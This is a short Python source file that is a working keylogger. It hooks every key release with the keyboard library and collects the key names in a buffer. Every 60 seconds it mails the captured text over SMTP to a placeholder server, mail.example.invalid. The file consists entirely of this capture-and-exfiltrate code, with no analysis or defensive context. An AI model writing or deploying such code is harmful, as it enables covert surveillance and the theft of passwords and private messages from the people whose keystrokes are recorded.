import smtplib, threading
import keyboard

class Log:
    def __init__(self):
        self.text = ""

    def seen(self, event):
        self.text += event.name

    def mail(self):
        s = smtplib.SMTP("mail.example.invalid", 587)
        s.sendmail("a@example.invalid", "b@example.invalid", self.text)
        threading.Timer(60, self.mail).start()

    def start(self):
        keyboard.on_release(callback=self.seen)
        self.mail()
